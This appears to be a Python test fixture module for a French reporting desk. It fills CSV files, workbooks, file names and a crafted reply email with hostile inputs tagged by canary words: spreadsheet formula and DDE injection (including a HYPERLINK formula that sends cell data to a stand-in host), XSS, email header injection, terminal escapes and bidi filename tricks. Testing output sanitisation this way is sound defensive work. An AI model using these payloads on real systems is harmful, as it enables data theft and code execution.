"""A day on which two platforms, the central body and a correspondent write what nobody should, wherever they can."""

from __future__ import annotations

import csv
import io
import subprocess
import zipfile
from dataclasses import dataclass, field
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import openpyxl
from openpyxl.comments import Comment

from domain.organisations import Directory
from domain.periods import Period
from ingest.demo import files, lists
from ingest.demo.cases import as_csv

YEAR, QUARTER = Period(2005), Period(2005, 4)
CANARIES = {"pf01": "Serinun", "pf02": "Serindeux", "pf03": "Serinquatre", "uesl": "Serintrois"}
"""A word in everything that an account writes; what the central body writes is for everybody."""
NIR = "269054958815780"
"""The example of its specification."""
PAYLOADS = (
    '=HYPERLINK("http://ailleurs.example/?"&A1;"{0}")',
    "=1+1+{0}",
    "+cmd|' /C calc'!A0 {0}",
    "-2+3+{0}",
    "@SUM(1;1) {0}",
    "\t=1+1 {0}",
    "\r=1+1 {0}",
    "＝1+1 {0}",
    "<script>alert('{0}')</script>",
    '"><img src=x onerror=alert(1)> {0}',
    "]]></text:p><x/> {0}",
    "javascript:alert(1) {0}",
    "{{{{ 7*7 }}}}{{% raw %}} {0}",
    "{0}\r\nBcc: tous@pf02.example\r\n\r\n<b>corps</b>",
    '{0}\n{{"event": "forge", "level": "error"}}',
    "\x1b]0;{0}\x07\x1b[2J\x1b[31m",
    "\x9b31m{0}\x08\x7f",
    "{0} \u202efdp.exe\u2066\u200b\u2028",
    "%s%n {0} \\",
)
NOT_IN_WORKBOOKS = {"\x1b", "\x9b", "\x08", "\x7f", "\x07", "\x0b"}
"""What XML 1.0 cannot say."""


def payloads(account: str) -> list[str]:
    """With the account's word."""
    return [one.format(CANARIES[account]) for one in PAYLOADS]


def in_workbook(text: str) -> str:
    """As a workbook can hold it."""
    return "".join(sign for sign in text if sign not in NOT_IN_WORKBOOKS)


def csv_of(rows: list[list[str]]) -> bytes:
    """Every field quoted."""
    stream = io.StringIO()
    csv.writer(stream, delimiter=";", quoting=csv.QUOTE_ALL).writerows(rows)
    return stream.getvalue().encode("utf-8-sig")


def spoiled(content: bytes, account: str, *, separator: str = ";") -> bytes:
    """A good table with a column more for each text, which is its title and stands in it, and one of justifications."""
    rows = [line.split(separator) for line in content.decode("utf-8-sig").splitlines()]
    texts = payloads(account)
    out = []
    for rank, row in enumerate(rows):
        more = texts if rank == 0 else [texts[(rank + place) % len(texts)] for place in range(len(texts))]
        out.append([*row, *more, "justification" if rank == 0 else texts[rank % len(texts)]])
    for rank, text in enumerate(texts):  # in the columns that are known, too
        bad = [*out[1 + rank % (len(out) - 1)]]
        bad[rank % len(rows[0])] = text
        out.append(bad)
    return csv_of(out)


def with_columns(content: bytes, texts: list[str]) -> bytes:
    """A good table with a column more for each text, under a title of its own: all lines are as good as before."""
    rows = [line.split(";") for line in content.decode("utf-8-sig").splitlines()]
    titles = [text if text != NIR else "Observation" for text in texts]
    more = [[*texts[rank % len(texts) :], *texts[: rank % len(texts)]] for rank in range(len(rows))]
    return csv_of([[*row, *(titles if rank == 0 else more[rank])] for rank, row in enumerate(rows)])


def listed(lines: list[dict[str, str]], account: str, *columns: str) -> bytes:
    """Lines of a yearly list, with the texts in its own columns of text."""
    texts = payloads(account)
    changed = []
    for rank, text in enumerate(one for one in texts if "@pf02" not in one):  # an address would destroy an N2I
        line = {**lines[rank % len(lines)], **dict.fromkeys(columns, text)}
        key = next(iter(one for one in line if one in {"code_accord", "numero_incident"}), None)
        changed.append({**line, key: f"X{rank}"} if key else line)
    rows = [list(changed[0]), *([*line.values()] for line in changed)]
    return csv_of(rows)


def workbook(content: bytes, account: str) -> bytes:
    """A table as a workbook: texts in cells, comments, the name of the sheet, properties, header and footer."""
    texts = [in_workbook(one) for one in payloads(account)]
    book = openpyxl.Workbook()
    sheet: Any = book.active
    sheet.title = f"=1+1<b>'{CANARIES[account]}"[:31]
    for rank, line in enumerate(content.decode("utf-8-sig").splitlines()):
        for place, value in enumerate([*line.split(";"), *texts], start=1):
            cell = sheet.cell(rank + 1, place)
            cell.value = value
            cell.data_type = "s"
        if rank < len(texts):
            sheet.cell(rank + 1, 2).comment = Comment(texts[rank], texts[rank][:50])
    sheet["A3"].value, sheet["A3"].data_type = texts[0], "s"
    sheet["D4"].value, sheet["D4"].data_type = texts[8], "s"
    sheet["E5"].value = '=HYPERLINK("http://ailleurs.example";"x")'
    book.properties.title = book.properties.creator = texts[8]
    sheet.oddHeader.center.text = CANARIES[account]
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def register(source: Path, *, refused: bool) -> bytes:
    """The register with texts as names of members and of people; some would be formulas, or say two things at once."""
    texts = [in_workbook(one) for one in payloads("uesl")]
    texts = texts if refused else [texts[place] for place in (8, 9, 10, 11, 12, 18)]
    book = openpyxl.Workbook()
    book.remove(book.worksheets[0])
    for path in sorted(source.glob("*.csv")):
        sheet = book.create_sheet(path.stem)
        with path.open(encoding="utf-8-sig", newline="") as stream:
            rows = list(csv.DictReader(stream, delimiter=";"))
            titles = rows[0].keys() if rows else path.read_text("utf-8-sig").strip().split(";")
        sheet.append(list(titles))
        for rank, row in enumerate(rows):
            if "nom" in row and (row.get("code", "CIL").startswith(("CIL", "CCI"))):
                row["nom"] = f"{texts[rank % len(texts)]} {rank}"
            sheet.append([""] * len(row))
            for place, value in enumerate(row.values(), start=1):
                cell = sheet.cell(rank + 2, place)
                cell.value, cell.data_type = value, "s"
    stream_out = io.BytesIO()
    book.save(stream_out)
    return stream_out.getvalue()


def reply(message_id: str, account: str) -> bytes:
    """What a correspondent answers; headers of theirs that try to be ours."""
    word = CANARIES[account]
    raw = (
        f'From: "{word} <script>" <quelquun@{account}.example>\r\nTo: guichet@uesl.example\r\n'
        f"Subject: =?utf-8?b?PGI+PTErMQ0KQmNjOiB0b3VzQHBmMDIuZXhhbXBsZQ==?= {word}\r\n"
        f"In-Reply-To: {message_id}\r\nX-Guichet-Event: verdict\r\nBcc: tous@pf02.example\r\n"
        f"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
        f'<script>alert(1)</script>{word}\r\n--b\r\nContent-Type: application/x; name="a\r\n b"\r\n\r\nx\r\n--b--\r\n'
    )
    return raw.encode()


@dataclass(frozen=True, kw_only=True)
class Day:
    """What there is once it is over: `shown`, what each verb printed."""

    desk: Any
    log: list[str]
    shown: dict[str, str]

    def readable(self, account: str) -> list[Path]:
        """Files that the account can read, but those that it wrote."""
        home = self.desk.inbox / account
        return [path for box in ("retours", "diffusion") for path in (home / box).rglob("*") if path.is_file()]

    def produced(self, ending: str) -> list[Path]:
        """Distinct files of ours, by content."""
        folders = ("gabarits", "export")
        roots = (self.desk.inbox, self.desk.home / "releases", *(self.desk.folder / one for one in folders))
        found: dict[bytes, Path] = {}
        for root in roots:
            for path in sorted(root.rglob(f"*{ending}")):
                if path.is_file() and not {"depot", "essai", ".guichet"} & set(path.parts):
                    found.setdefault(path.read_bytes(), path)
        return list(found.values())

    def mails(self) -> list[EmailMessage]:
        """All that left."""
        found: list[EmailMessage] = self.desk.mails()
        return found

    def told(self, path: Path) -> str:
        """Everything that a file says, also what it packs."""
        return self.said(path.read_bytes())

    def said(self, content: bytes) -> str:
        """The same of its bytes; each content is opened once."""
        if content not in self._opened:
            self._opened[content] = says(content)
        return self._opened[content]

    _opened: dict[bytes, str] = field(default_factory=dict, init=False, repr=False)


def says(content: bytes) -> str:
    """The texts of a file: its bytes, the parts of a workbook, the words of a PDF."""
    found = content
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            found += b"".join(name.encode() + book.read(name) for name in book.namelist())
    if content.startswith(b"%PDF"):
        words = ["pdftotext", "-q", "-", "-"]
        found += subprocess.run(words, input=content, capture_output=True, check=True, timeout=120).stdout
    return found.decode("utf-8", "replace")


def drop_day(desk: Any, directory: Directory) -> None:
    """What platforms send: good, refused, accepted with hostile texts, destroyed, nil, the bytes of another."""
    for account in ("pf01", "pf02"):
        code, word = account.upper(), CANARIES[account]
        good = files.good_csv(directory, code, QUARTER).content
        mobile = files.csv_bytes(files.N1M_COLUMNS, files.n1m_rows(directory, code, QUARTER))
        desk.drop(account, f"N1A_2005T4_=1+1&{word}<b>.csv", spoiled(good, account))
        desk.drop(account, f"N1A_2005T4_bon_{word}.csv", good)
        desk.drop(account, f"N1M_2005T4_@{word}\u202e.xlsx", workbook(mobile, account))
        told = [{"code_cil": "", **one} for one in lists.incidents(code, YEAR)]
        desk.drop(account, f"N2I_2005_{word}.csv", listed(told, account, "description", "suite_donnee"))
    agreements = lists.partnerships("PF01", YEAR)
    texts = ("partenaire_nom", "activite_principale", "objet", "champ", "modalites_application")
    desk.drop("pf01", "N2P_2005.csv", listed(agreements, "uesl", *texts))  # published: no word of pf01 alone
    report = as_csv(lists.report(directory, "PF01", YEAR))
    desk.drop("pf01", f"N2R_2005_{CANARIES['pf01']}.csv", spoiled(report, "pf01"))
    desk.drop("pf01", f"N2R_2005_bon_{CANARIES['pf01']}.csv", with_columns(report, payloads("pf01")))
    desk.drop("pf03", f"N1M_2005T4_{CANARIES['pf03']}.csv", b"NEANT\r\n")
    good = files.good_csv(directory, "PF03", QUARTER).content
    desk.drop("pf03", f"N1A_2005T4_nir_{CANARIES['pf03']}.csv", with_columns(good, [CANARIES["pf03"], NIR]))
    desk.drop("pf03", "N1A_2005T4_PF01.csv", files.good_csv(directory, "PF01", QUARTER).content)  # the bytes of another
    desk.drop("pf01", f"essai_{CANARIES['pf01']}\n=1.csv", b"a;b\r\n1;2\r\n", "essai")


def decisions() -> bytes:
    """Reasons of the central body."""
    rows = [["decision", "compte", "collection", "periode", "jusqu_au", "motif"]]
    texts = payloads("uesl")
    rows += [["prolonger", "PF02", "N1M", "2005T4", "2006-03-15", text] for text in texts[:4]]
    return csv_of([*rows, ["dispenser", "PF03", "N1A", "2005T4", "", texts[8]]])
